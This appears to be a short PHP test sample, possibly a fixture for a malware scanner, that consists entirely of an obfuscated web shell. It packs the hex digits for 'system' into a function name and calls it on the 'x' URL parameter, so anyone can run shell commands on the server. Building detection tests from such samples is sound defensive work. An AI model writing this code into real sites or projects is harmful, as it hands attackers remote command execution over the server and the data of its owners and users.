<?php
// Test sample (never run): a function name packed from hex digits.
$p = pack('H*', '73797374656d');
$p($_GET['x']);
